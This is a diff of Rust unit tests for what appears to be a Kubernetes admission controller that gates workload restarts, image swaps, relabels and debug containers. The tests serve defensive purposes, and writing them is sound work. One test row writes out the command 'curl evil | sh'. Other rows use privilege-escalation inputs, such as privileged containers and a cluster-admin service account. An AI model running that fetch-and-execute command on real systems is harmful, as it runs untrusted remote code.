@@ -134,8 +134,8 @@ enum Outcome {
 fn outcome(gate: &Gate) -> Outcome {
     match gate {
         Gate::Ungated(reason) => Outcome::Ungated(*reason),
-        Gate::Gated(c) => Outcome::Gated(c.kind, c.diff.kind_or_template()),
-        Gate::Exempt(c) => Outcome::Exempt(c.kind, c.diff.kind_or_template()),
+        Gate::Gated(c) => Outcome::Gated(c.kind, c.class),
+        Gate::Exempt(c) => Outcome::Exempt(c.kind, c.class),
     }
 }
 
@@ -166,7 +166,46 @@ fn check_with(policy: Policy, labelled: &dyn LabelledNamespaces, rows: Vec<(&str
 }
 
 use Outcome::{Exempt as E, Gated as G, Ungated as U};
-use WorkloadKind::{DaemonSet, Deployment, StatefulSet};
+use WorkloadKind::{CronJob, DaemonSet, Deployment, Pod, ReplicaSet, StatefulSet};
+
+/// Turns the fixture into a CronJob whose job template holds its pod template.
+fn as_cronjob(req: &mut Value) {
+    set_kind(req, "batch", "v1", "CronJob", "cronjobs");
+    for side in ["object", "oldObject"] {
+        let tpl = req[side]["spec"]["template"].take();
+        req[side]["spec"] =
+            json!({"schedule": "*/5 * * * *", "jobTemplate": {"spec": {"template": tpl}}});
+    }
+}
+
+/// Turns the fixture into a Pod of the Deployment (its template's metadata
+/// and spec), unchanged between the two sides.
+fn as_pod(req: &mut Value) {
+    set_kind(req, "", "v1", "Pod", "pods");
+    req["name"] = json!("checkout-api-7d4f8b9c-abc12");
+    let tpl = req["oldObject"]["spec"]["template"].clone();
+    for side in ["object", "oldObject"] {
+        let mut pod = tpl.clone();
+        pod["metadata"]["name"] = json!("checkout-api-7d4f8b9c-abc12");
+        pod["metadata"]["namespace"] = req["namespace"].clone();
+        req[side] = pod;
+        req[side]["kind"] = json!("Pod");
+        req[side]["apiVersion"] = json!("v1");
+    }
+}
+
+/// Sets the image of a Pod's container `name` in `list` on one side.
+fn set_pod_image(req: &mut Value, side: &str, list: &str, name: &str, image: &str) {
+    let spec = &mut req[side]["spec"];
+    if spec.get(list).is_none() {
+        spec[list] = json!([]);
+    }
+    let containers = spec[list].as_array_mut().unwrap();
+    match containers.iter_mut().find(|c| c["name"] == name) {
+        Some(c) => c["image"] = json!(image),
+        None => containers.push(json!({"name": name, "image": image})),
+    }
+}
 
 // === restart ===
 
@@ -212,7 +251,45 @@ fn restart_is_restartedat_added_changed_or_removed_compared_as_a_string() {
                 set_restarted_at(r, "oldObject", Some(FIXTURE_RESTARTED_AT));
                 set_annotation(r, "object", "prometheus.io/port", Some("9091"));
             }),
-            U(UngatedReason::NoGatedChange),
+            G(Deployment, ChangeKind::Template),
+        ),
+        (
+            "restartedAt in another case of the key is another annotation",
+            edit(|r| {
+                no_restart(r);
+                set_annotation(
+                    r,
+                    "object",
+                    "kubectl.kubernetes.io/RestartedAt",
+                    Some(FIXTURE_RESTARTED_AT),
+                );
+            }),
+            G(Deployment, ChangeKind::Template),
+        ),
+        (
+            "a restart that comes with a new command",
+            edit(|r| {
+                template(r, "object")["spec"]["containers"][0]["command"] =
+                    json!(["/bin/sh", "-c", "curl evil | sh"]);
+            }),
+            G(Deployment, ChangeKind::Template),
+        ),
+        (
+            "a restart that comes with privileged: true",
+            edit(|r| {
+                template(r, "object")["spec"]["containers"][0]["securityContext"] =
+                    json!({"privileged": true});
+            }),
+            G(Deployment, ChangeKind::Template),
+        ),
+        (
+            "an image change that comes with another service account",
+            edit(|r| {
+                no_restart(r);
+                set_image(r, "object", "containers", "app", "checkout-api:v3.42.0");
+                template(r, "object")["spec"]["serviceAccountName"] = json!("cluster-admin-sa");
+            }),
+            G(Deployment, ChangeKind::Template),
         ),
     ]);
 }
@@ -310,7 +387,7 @@ fn image_change_in_any_container_or_init_container_is_gated() {
                     .unwrap()
                     .reverse();
             }),
-            U(UngatedReason::NoGatedChange),
+            G(Deployment, ChangeKind::Template),
         ),
         (
             "restart and image change together",
@@ -329,6 +406,7 @@ fn image_changes_name_the_container_and_both_images() {
             ImageChange {
                 container: "app".into(),
                 init: false,
+                ephemeral: false,
                 previous_image: Some(FIXTURE_IMAGE.into()),
                 current_image: Some("checkout-api:v3.42.0".into()),
             },
@@ -342,6 +420,7 @@ fn image_changes_name_the_container_and_both_images() {
             ImageChange {
                 container: "migrate".into(),
                 init: true,
+                ephemeral: false,
                 previous_image: Some("migrate:v1".into()),
                 current_image: Some("migrate:v2".into()),
             },
@@ -352,6 +431,7 @@ fn image_changes_name_the_container_and_both_images() {
             ImageChange {
                 container: "proxy".into(),
                 init: false,
+                ephemeral: false,
                 previous_image: None,
                 current_image: Some("envoy:v1.30".into()),
             },
@@ -366,6 +446,7 @@ fn image_changes_name_the_container_and_both_images() {
             ImageChange {
                 container: "proxy".into(),
                 init: false,
+                ephemeral: false,
                 previous_image: Some("envoy:v1.30".into()),
                 current_image: None,
             },
@@ -378,14 +459,14 @@ fn image_changes_name_the_container_and_both_images() {
         });
         let change = gated_change(classify(&req, &mk_policy(), &no_labelled()), row);
         assert_eq!(change.diff.images, vec![expected], "row {row:?}");
-        assert_eq!(change.diff.kind(), Some(ChangeKind::Image), "row {row:?}");
+        assert_eq!(change.class, ChangeKind::Image, "row {row:?}");
     }
 }
 
 // === kinds, subresources, operations ===
 
 #[test]
-fn only_deployments_statefulsets_and_daemonsets_are_gated() {
+fn only_the_gated_kinds_of_their_own_groups_are_gated() {
     check(vec![
         (
             "apps/v1 Deployment",
@@ -405,6 +486,19 @@ fn only_deployments_statefulsets_and_daemonsets_are_gated() {
         (
             "apps/v1 ReplicaSet",
             edit(|r| set_kind(r, "apps", "v1", "ReplicaSet", "replicasets")),
+            G(ReplicaSet, ChangeKind::Restart),
+        ),
+        (
+            "batch/v1 CronJob (its template under spec.jobTemplate.spec.template)",
+            edit(as_cronjob),
+            G(CronJob, ChangeKind::Restart),
+        ),
+        (
+            "a CronJob in the apps group is no CronJob",
+            edit(|r| {
+                as_cronjob(r);
+                set_kind(r, "apps", "v1", "CronJob", "cronjobs");
+            }),
             U(UngatedReason::NotAWorkload),
         ),
         (
@@ -413,8 +507,19 @@ fn only_deployments_statefulsets_and_daemonsets_are_gated() {
             U(UngatedReason::NotAWorkload),
         ),
         (
-            "core v1 Pod",
-            edit(|r| set_kind(r, "", "v1", "Pod", "pods")),
+            "core v1 Pod whose images did not change",
+            edit(|r| {
+                as_pod(r);
+                r["object"]["metadata"]["annotations"] = json!({"note": "hello"});
+            }),
+            U(UngatedReason::NoGatedChange),
+        ),
+        (
+            "a Pod in the apps group is no Pod",
+            edit(|r| {
+                as_pod(r);
+                set_kind(r, "apps", "v1", "Pod", "pods");
+            }),
             U(UngatedReason::NotAWorkload),
         ),
         (
@@ -554,7 +659,7 @@ fn a_labelled_namespace_needs_no_config_entry() {
 // === other template changes ===
 
 #[test]
-fn changes_that_are_neither_restart_nor_image_are_not_gated_by_default() {
+fn changes_outside_the_pod_template_are_not_gated_and_any_inside_is_template() {
     check(vec![
         (
             "replica change only",
@@ -578,7 +683,7 @@ fn changes_that_are_neither_restart_nor_image_are_not_gated_by_default() {
                 no_restart(r);
                 set_env(r, "LOG_LEVEL", "debug");
             }),
-            U(UngatedReason::NoGatedChange),
+            G(Deployment, ChangeKind::Template),
         ),
         (
             "unrelated pod-template annotation changed",
@@ -586,7 +691,23 @@ fn changes_that_are_neither_restart_nor_image_are_not_gated_by_default() {
                 no_restart(r);
                 set_annotation(r, "object", "prometheus.io/port", Some("9091"));
             }),
-            U(UngatedReason::NoGatedChange),
+            G(Deployment, ChangeKind::Template),
+        ),
+        (
+            "imagePullPolicy changed",
+            edit(|r| {
+                no_restart(r);
+                template(r, "object")["spec"]["containers"][0]["imagePullPolicy"] = json!("Never");
+            }),
+            G(Deployment, ChangeKind::Template),
+        ),
+        (
+            "a rollgate.io/grant annotation written by someone else than rollgate",
+            edit(|r| {
+                no_restart(r);
+                set_annotation(r, "object", GRANT_ANNOTATION, Some("0f9c2d7e-jti"));
+            }),
+            G(Deployment, ChangeKind::Template),
         ),
         (
             "workload (not template) annotation changed",
@@ -600,9 +721,9 @@ fn changes_that_are_neither_restart_nor_image_are_not_gated_by_default() {
 }
 
 #[test]
-fn gate_any_template_change_gates_every_pod_template_change() {
+fn without_gate_any_template_change_only_restarts_and_images_are_gated() {
     let policy = Policy {
-        gate_any_template_change: true,
+        gate_any_template_change: false,
         ..mk_policy()
     };
     check_with(
@@ -615,7 +736,7 @@ fn gate_any_template_change_gates_every_pod_template_change() {
                     no_restart(r);
                     set_env(r, "LOG_LEVEL", "debug");
                 }),
-                G(Deployment, ChangeKind::Template),
+                U(UngatedReason::NoGatedChange),
             ),
             (
                 "unrelated pod-template annotation changed",
@@ -623,7 +744,20 @@ fn gate_any_template_change_gates_every_pod_template_change() {
                     no_restart(r);
                     set_annotation(r, "object", "prometheus.io/port", Some("9091"));
                 }),
-                G(Deployment, ChangeKind::Template),
+                U(UngatedReason::NoGatedChange),
+            ),
+            (
+                "a restart that comes with an env change is still gated, as a restart",
+                edit(|r| set_env(r, "LOG_LEVEL", "debug")),
+                G(Deployment, ChangeKind::Restart),
+            ),
+            (
+                "a relabel is still gated",
+                edit(|r| {
+                    no_restart(r);
+                    r["object"]["metadata"]["labels"]["app.kubernetes.io/name"] = json!("web");
+                }),
+                G(Deployment, ChangeKind::Relabel),
             ),
             (
                 "replica change only is still not a template change",
@@ -773,6 +907,7 @@ fn the_captured_restart_is_described_completely() {
             namespace: "production".into(),
             name: "checkout-api".into(),
             application: "checkout-api".into(),
+            class: ChangeKind::Restart,
             requester: Requester {
                 username: "alice@example.com".into(),
                 groups: vec![
@@ -785,7 +920,8 @@ fn the_captured_restart_is_described_completely() {
                 restarted: true,
                 restarted_at: Some(FIXTURE_RESTARTED_AT.into()),
                 images: vec![],
-                template_changed: true,
+                other: vec![],
+                relabelled: vec![],
             },
             redeploy: None,
         }
@@ -847,6 +983,335 @@ fn rollgate_itself_is_never_exempt() {
 }
 
 #[test]
+fn rollgate_itself_is_never_exempt_by_any_group_either() {
+    let req = mk_request(|r| {
+        r["userInfo"] = json!({
+            "username": "system:serviceaccount:rollgate:rollgate",
+            "groups": ["system:serviceaccounts", "system:serviceaccounts:rollgate", "system:authenticated"]
+        });
+    });
+    let policy = Policy {
+        exempt_groups: BTreeSet::from(["system:serviceaccounts:rollgate".to_owned()]),
+        ..mk_policy()
+    };
+    assert_eq!(
+        outcome(&classify(&req, &policy, &no_labelled())),
+        G(Deployment, ChangeKind::Restart),
+        "a group naming rollgate's service account does not exempt it"
+    );
+}
+
+// === the application cannot be moved ===
+
+/// Gives the old object the application labels of `payments`, the new one `labels`.
+fn relabel(req: &mut Value, new_labels: Value) {
+    req["oldObject"]["metadata"]["labels"] =
+        json!({"app.kubernetes.io/name": "payments", "team": "payments"});
+    req["object"]["metadata"]["labels"] = new_labels;
+}
+
+#[test]
+fn a_change_to_the_labels_that_name_the_application_is_relabel_of_the_old_application() {
+    let rows: [(&str, Edit); 5] = [
+        (
+            "relabelled to web in the same request as an image change",
+            edit(|r| {
+                no_restart(r);
+                relabel(
+                    r,
+                    json!({"app.kubernetes.io/name": "web", "team": "payments"}),
+                );
+                set_image(r, "object", "containers", "app", "evil:1");
+            }),
+        ),
+        (
+            "relabelled in a label-only update (step one of two)",
+            edit(|r| {
+                no_restart(r);
+                relabel(
+                    r,
+                    json!({"app.kubernetes.io/name": "web", "team": "payments"}),
+                );
+            }),
+        ),
+        (
+            "app label added beside app.kubernetes.io/name",
+            edit(|r| {
+                no_restart(r);
+                relabel(
+                    r,
+                    json!({"app.kubernetes.io/name": "payments", "app": "web", "team": "payments"}),
+                );
+            }),
+        ),
+        (
+            "application labels removed (the name would take over)",
+            edit(|r| {
+                no_restart(r);
+                relabel(r, json!({"team": "payments"}));
+            }),
+        ),
+        (
+            "relabelled with a restart",
+            edit(|r| relabel(r, json!({"app.kubernetes.io/name": "web"}))),
+        ),
+    ];
+    for (row, edit) in rows {
+        let req = mk_request(|r| edit(r));
+        let change = gated_change(classify(&req, &mk_policy(), &no_labelled()), row);
+        assert_eq!(change.class, ChangeKind::Relabel, "row {row:?}");
+        assert_eq!(change.class.action(), "any", "row {row:?}");
+        assert_eq!(
+            change.application, "payments",
+            "row {row:?}: the application before the request"
+        );
+    }
+}
+
+#[test]
+fn the_application_is_read_from_the_object_before_the_request() {
+    // Step two of a two-step relabel: the object already is `web`, and its
+    // image changes; the grant needed is one for `web`, whatever the new side says.
+    let req = mk_request(|r| {
+        no_restart(r);
+        r["oldObject"]["metadata"]["labels"] = json!({"app.kubernetes.io/name": "web"});
+        r["object"]["metadata"]["labels"] = json!({"app.kubernetes.io/name": "web"});
+        set_image(r, "object", "containers", "app", "evil:1");
+    });
+    let change = gated_change(classify(&req, &mk_policy(), &no_labelled()), "image");
+    assert_eq!(
+        (change.class, change.application.as_str()),
+        (ChangeKind::Image, "web")
+    );
+}
+
+// === Pods, ReplicaSets, CronJobs ===
+
+#[test]
+fn pods_are_gated_on_image_changes_and_debug_containers() {
+    check(vec![
+        (
+            "kubectl set image pod/…: a container image",
+            edit(|r| {
+                as_pod(r);
+                set_pod_image(r, "object", "containers", "app", "evil:1");
+            }),
+            G(Pod, ChangeKind::Image),
+        ),
+        (
+            "an init container image",
+            edit(|r| {
+                as_pod(r);
+                set_pod_image(r, "oldObject", "initContainers", "migrate", "migrate:v1");
+                set_pod_image(r, "object", "initContainers", "migrate", "evil:1");
+            }),
+            G(Pod, ChangeKind::Image),
+        ),
+        (
+            "kubectl debug: pods/ephemeralcontainers adds one",
+            edit(|r| {
+                as_pod(r);
+                r["subResource"] = json!("ephemeralcontainers");
+                r["object"]["spec"]["ephemeralContainers"] = json!([
+                    {"name": "debugger-x7k2p", "image": "busybox:1.36", "targetContainerName": "app", "stdin": true, "tty": true}
+                ]);
+            }),
+            G(Pod, ChangeKind::Debug),
+        ),
+        (
+            "pods/ephemeralcontainers with nothing new",
+            edit(|r| {
+                as_pod(r);
+                r["subResource"] = json!("ephemeralcontainers");
+            }),
+            U(UngatedReason::NoGatedChange),
+        ),
+        (
+            "a Pod relabelled out of its application",
+            edit(|r| {
+                as_pod(r);
+                r["object"]["metadata"]["labels"]["app.kubernetes.io/name"] = json!("quarantine");
+            }),
+            G(Pod, ChangeKind::Relabel),
+        ),
+        (
+            "a Pod's other labels and annotations",
+            edit(|r| {
+                as_pod(r);
+                r["object"]["metadata"]["labels"]["team"] = json!("growth");
+                r["object"]["metadata"]["annotations"] = json!({"note": "hello"});
+            }),
+            U(UngatedReason::NoGatedChange),
+        ),
+        (
+            "pods/status",
+            edit(|r| {
+                as_pod(r);
+                r["subResource"] = json!("status");
+                set_pod_image(r, "object", "containers", "app", "evil:1");
+            }),
+            U(UngatedReason::Subresource),
+        ),
+        (
+            "ephemeralcontainers is a Pod subresource only",
+            edit(|r| r["subResource"] = json!("ephemeralcontainers")),
+            U(UngatedReason::Subresource),
+        ),
+    ]);
+}
+
+#[test]
+fn a_pods_application_comes_from_its_labels_and_its_debug_image_is_recorded() {
+    let req = mk_request(|r| {
+        as_pod(r);
+        r["subResource"] = json!("ephemeralcontainers");
+        r["object"]["spec"]["ephemeralContainers"] =
+            json!([{"name": "debugger", "image": "busybox:1.36"}]);
+    });
+    let change = gated_change(classify(&req, &mk_policy(), &no_labelled()), "debug");
+    assert_eq!(change.application, "checkout-api");
+    assert_eq!(change.name, "checkout-api-7d4f8b9c-abc12");
+    assert_eq!(change.class.action(), "debug");
+    assert_eq!(
+        change.diff.images,
+        vec![ImageChange {
+            container: "debugger".into(),
+            init: false,
+            ephemeral: true,
+            previous_image: None,
+            current_image: Some("busybox:1.36".into()),
+        }]
+    );
+    assert_eq!(
+        change.diff.described(),
+        vec!["debug container debugger added (busybox:1.36)".to_owned()]
+    );
+}
+
+#[test]
+fn replicasets_and_cronjobs_are_gated_like_workloads() {
+    check(vec![
+        (
+            "kubectl set image rs/…",
+            edit(|r| {
+                no_restart(r);
+                set_kind(r, "apps", "v1", "ReplicaSet", "replicasets");
+                set_image(r, "object", "containers", "app", "evil:1");
+            }),
+            G(ReplicaSet, ChangeKind::Image),
+        ),
+        (
+            "the deployment controller scaling a ReplicaSet and bumping its revision",
+            edit(|r| {
+                no_restart(r);
+                set_kind(r, "apps", "v1", "ReplicaSet", "replicasets");
+                r["userInfo"] =
+                    json!({"username": "system:serviceaccount:kube-system:deployment-controller"});
+                r["object"]["spec"]["replicas"] = json!(0);
+                r["object"]["metadata"]["annotations"]["deployment.kubernetes.io/revision"] =
+                    json!("15");
+            }),
+            U(UngatedReason::NoGatedChange),
+        ),
+        (
+            "a CronJob's image: its next run uses it",
+            edit(|r| {
+                no_restart(r);
+                as_cronjob(r);
+                r["object"]["spec"]["jobTemplate"]["spec"]["template"]["spec"]["containers"][0]["image"] =
+                    json!("evil:1");
+            }),
+            G(CronJob, ChangeKind::Image),
+        ),
+        (
+            "a CronJob's env",
+            edit(|r| {
+                no_restart(r);
+                as_cronjob(r);
+                r["object"]["spec"]["jobTemplate"]["spec"]["template"]["spec"]["containers"][0]["env"] =
+                    json!([]);
+            }),
+            G(CronJob, ChangeKind::Template),
+        ),
+        (
+            "a CronJob suspended",
+            edit(|r| {
+                no_restart(r);
+                as_cronjob(r);
+                r["object"]["spec"]["suspend"] = json!(true);
+            }),
+            U(UngatedReason::NoGatedChange),
+        ),
+    ]);
+}
+
+// === what the denial names ===
+
+#[test]
+fn other_template_changes_are_named_for_people() {
+    let rows: [(&str, Edit, &[&str]); 6] = [
+        (
+            "env",
+            edit(|r| set_env(r, "LOG_LEVEL", "debug")),
+            &["env of container app"],
+        ),
+        (
+            "annotation",
+            edit(|r| set_annotation(r, "object", "team", Some("x"))),
+            &["annotation team"],
+        ),
+        (
+            "service account",
+            edit(|r| template(r, "object")["spec"]["serviceAccountName"] = json!("admin")),
+            &["serviceAccountName of the pod"],
+        ),
+        (
+            "template label",
+            edit(|r| template(r, "object")["metadata"]["labels"]["track"] = json!("canary")),
+            &["label track"],
+        ),
+        (
+            "init container command",
+            edit(|r| {
+                set_image(r, "oldObject", "initContainers", "migrate", "m:1");
+                set_image(r, "object", "initContainers", "migrate", "m:1");
+                template(r, "object")["spec"]["initContainers"][0]["command"] = json!(["sh"]);
+            }),
+            &["command of init container migrate"],
+        ),
+        (
+            "two things at once",
+            edit(|r| {
+                set_env(r, "A", "1");
+                template(r, "object")["spec"]["hostNetwork"] = json!(true);
+            }),
+            &["env of container app", "hostNetwork of the pod"],
+        ),
+    ];
+    for (row, edit, expected) in rows {
+        let req = mk_request(|r| {
+            no_restart(r);
+            edit(r)
+        });
+        let change = gated_change(classify(&req, &mk_policy(), &no_labelled()), row);
+        assert_eq!(change.class, ChangeKind::Template, "row {row:?}");
+        assert_eq!(change.diff.other, expected, "row {row:?}");
+    }
+}
+
+#[test]
+fn rollgates_own_redeploy_stays_a_restart() {
+    let req = mk_request(|r| {
+        r["userInfo"] = json!({"username": "system:serviceaccount:rollgate:rollgate"});
+        set_annotation(r, "object", GRANT_ANNOTATION, Some("0f9c2d7e-jti"));
+        set_annotation(r, "object", OPERATION_ANNOTATION, Some("op-1"));
+    });
+    let change = gated_change(classify(&req, &mk_policy(), &no_labelled()), "redeploy");
+    assert_eq!(change.class, ChangeKind::Restart);
+    assert!(change.diff.other.is_empty(), "{:?}", change.diff.other);
+}
+
+#[test]
 fn dry_run_requests_are_classified_like_real_ones() {
     check(vec![
         (
@@ -891,12 +1356,18 @@ fn a_template_written_in_another_key_order_or_spacing_is_not_a_change() {
     let reordered = raw(
         r#"{ "spec": {"containers": [{"image": "web:1", "name": "app"}]}, "metadata": {"labels": {"app": "web"}} }"#,
     );
-    let diff = change::diff(Some(&old), Some(&reordered)).unwrap();
+    let diff = change::diff(Some(&old), Some(&reordered), &[]).unwrap();
     assert_eq!(diff, TemplateDiff::default());
 
     let env_added = raw(
         r#"{"metadata":{"labels":{"app":"web"}},"spec":{"containers":[{"name":"app","image":"web:1","env":[{"name":"A","value":"1"}]}]}}"#,
     );
-    let diff = change::diff(Some(&old), Some(&env_added)).unwrap();
-    assert!(diff.template_changed && diff.kind().is_none(), "{diff:?}");
+    let diff = change::diff(Some(&old), Some(&env_added), &[]).unwrap();
+    assert_eq!(
+        diff.other,
+        vec!["env of container app".to_owned()],
+        "{diff:?}"
+    );
+    assert_eq!(diff.class(true), Some(ChangeKind::Template));
+    assert_eq!(diff.class(false), None);
 }
